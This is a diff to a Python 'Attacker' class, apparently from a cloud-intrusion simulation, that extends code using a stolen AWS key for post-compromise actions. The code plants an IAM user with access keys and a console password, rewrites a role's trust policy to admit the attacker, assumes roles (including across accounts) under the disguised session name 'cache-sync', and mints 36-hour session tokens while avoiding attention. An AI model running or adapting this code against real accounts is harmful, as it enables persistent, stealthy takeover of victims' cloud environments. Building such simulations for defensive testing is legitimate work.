@@ -85,8 +85,11 @@ class Attacker:
         key = self.read_log(run_url)
         return [{"act": "github:ReadRunLog", "ok": True, "code": "", "made": ""}, *self.use(key)]
 
-    def use(self, key: Loot) -> list[dict[str, Any]]:
-        """Use a key, or a session, for all that it is worth. Returns the acts with what came of each."""
+    def use(self, key: Loot, role: str = ROLE) -> list[dict[str, Any]]:
+        """Use a key, or a session, for all that it is worth. Returns the acts with what came of each.
+
+        ``role``: of its account, into which the planted user is let; '' for none.
+        """
         self.loot = {"key": key}
         acts: list[dict[str, Any]] = []
         iam, sts = self.client("iam", key), self.client("sts", key)
@@ -112,16 +115,26 @@ class Attacker:
             "iam:CreateAccessKey", PLANTED_USER, lambda: iam.create_access_key(UserName=PLANTED_USER)))  # fmt: skip
         act("iam:CreateLoginProfile", PLANTED_USER, lambda: iam.create_login_profile(
             UserName=PLANTED_USER, Password=secrets.token_urlsafe(24), PasswordResetRequired=False))  # fmt: skip
-        role = act("iam:GetRole", "", lambda: iam.get_role(RoleName=ROLE))
-        if role:
-            opened = _let_in(role["Role"]["AssumeRolePolicyDocument"], victim)
-            act("iam:UpdateAssumeRolePolicy", ROLE, lambda: iam.update_assume_role_policy(
-                RoleName=ROLE, PolicyDocument=opened))  # fmt: skip
-            self._take("role-session", act("sts:AssumeRole", ROLE, lambda: sts.assume_role(
-                RoleArn=role["Role"]["Arn"], RoleSessionName="cache-sync")))  # fmt: skip
+        found = act("iam:GetRole", "", lambda: iam.get_role(RoleName=role)) if role else None
+        if found:
+            opened = _let_in(found["Role"]["AssumeRolePolicyDocument"], victim)
+            act("iam:UpdateAssumeRolePolicy", role, lambda: iam.update_assume_role_policy(
+                RoleName=role, PolicyDocument=opened))  # fmt: skip
+            self._take("role-session", act("sts:AssumeRole", role, lambda: sts.assume_role(
+                RoleArn=found["Role"]["Arn"], RoleSessionName="cache-sync")))  # fmt: skip
         self._take("saved-session", act(
             "sts:GetSessionToken", victim, lambda: sts.get_session_token(DurationSeconds=129600)))  # fmt: skip
         return acts
+
+    def assumes(self, arn: str) -> dict[str, Any]:
+        """Take a session of a role that lets the key in, whosever account it is of. Returns the act."""
+        code = ""
+        try:
+            took = self.client("sts", self.loot["key"]).assume_role(RoleArn=arn, RoleSessionName="cache-sync")
+            self._take("role-session", took)
+        except ClientError as exc:
+            code = str(exc.response["Error"]["Code"])
+        return {"act": "sts:AssumeRole", "ok": not code, "code": code, "made": arn}
 
     def saves(self, key: Loot) -> dict[str, Any]:
         """Save a session of a key for later; nothing that would draw attention. Returns the act."""
